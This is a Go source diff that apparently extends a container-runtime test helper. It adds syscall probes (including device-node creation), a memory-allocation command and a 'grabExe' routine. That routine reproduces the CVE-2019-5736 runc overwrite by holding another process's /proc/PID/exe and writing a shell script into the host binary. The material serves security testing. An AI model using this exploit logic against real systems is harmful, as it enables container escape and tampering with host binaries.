@@ -84,6 +84,17 @@ func main() {
 			os.Exit(1)
 		}
 		os.Stdout.Write(b[:k])
+	case "try":
+		try(os.Args[2:])
+	case "grab-exe":
+		grabExe()
+	case "alloc":
+		n, _ := strconv.Atoi(os.Args[2])
+		b := make([]byte, n<<20)
+		for i := 0; i < len(b); i += 4096 {
+			b[i] = 1
+		}
+		fmt.Println("allocated", n, "MiB")
 	default:
 		fmt.Fprintln(os.Stderr, "unknown command", os.Args[1])
 		os.Exit(2)
@@ -213,4 +224,99 @@ func probe(path string) File {
 		out.ReadLen = len(ents)
 	}
 	return out
+}
+
+// try runs one system call and prints "ok" or "errno N".
+func try(args []string) {
+	var err error
+	switch args[0] {
+	case "mkdir":
+		err = unix.Mkdir(args[1], 0o755)
+	case "uname":
+		var u unix.Utsname
+		err = unix.Uname(&u)
+	case "open":
+		var fd int
+		fd, err = unix.Open(args[1], unix.O_RDWR, 0)
+		if err == nil {
+			unix.Close(fd)
+		}
+	case "mknod":
+		mode := uint32(unix.S_IFCHR)
+		if args[2] == "b" {
+			mode = unix.S_IFBLK
+		}
+		maj, _ := strconv.Atoi(args[3])
+		min, _ := strconv.Atoi(args[4])
+		err = unix.Mknod(args[1], mode|0o600, int(unix.Mkdev(uint32(maj), uint32(min))))
+	default:
+		fmt.Println("unknown call", args[0])
+		os.Exit(2)
+	}
+	if e, ok := err.(unix.Errno); ok {
+		fmt.Printf("errno %d\n", int(e))
+		return
+	}
+	if err != nil {
+		fmt.Println("error", err)
+		return
+	}
+	fmt.Println("ok")
+}
+
+// grabExe plays the CVE-2019-5736 attacker: it waits for a process of
+// another binary (a runtime's init joining the container) to show up, holds
+// its /proc/PID/exe, and once that process has exec'd or exited tries to
+// write to the binary through it. It prints what it got as JSON.
+func grabExe() {
+	self, _ := os.Readlink("/proc/self/exe")
+	var res struct {
+		Grabbed, OpenErr, WriteErr string
+		Wrote                      bool
+	}
+	fd := -1
+	deadline := time.Now().Add(20 * time.Second)
+	for fd < 0 && time.Now().Before(deadline) {
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil || pid == os.Getpid() {
+				continue
+			}
+			link, err := os.Readlink("/proc/" + e.Name() + "/exe")
+			if err != nil || link == self || strings.Contains(link, "busybox") {
+				continue
+			}
+			if fd, err = unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
+				res.Grabbed = link
+				break
+			}
+			fd = -1
+		}
+	}
+	if fd < 0 {
+		json.NewEncoder(os.Stdout).Encode(res)
+		return
+	}
+	// The binary is busy (ETXTBSY) while anything runs it; wait that out.
+	path := "/proc/self/fd/" + strconv.Itoa(fd)
+	for time.Now().Before(deadline) {
+		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err == unix.ETXTBSY {
+			time.Sleep(5 * time.Millisecond)
+			continue
+		}
+		if err != nil {
+			res.OpenErr = err.Error()
+			break
+		}
+		if _, err := unix.Pwrite(w, []byte("#!/bin/sh\necho pwned\n"), 0); err != nil {
+			res.WriteErr = err.Error()
+		} else {
+			res.Wrote = true
+		}
+		unix.Close(w)
+		break
+	}
+	json.NewEncoder(os.Stdout).Encode(res)
 }
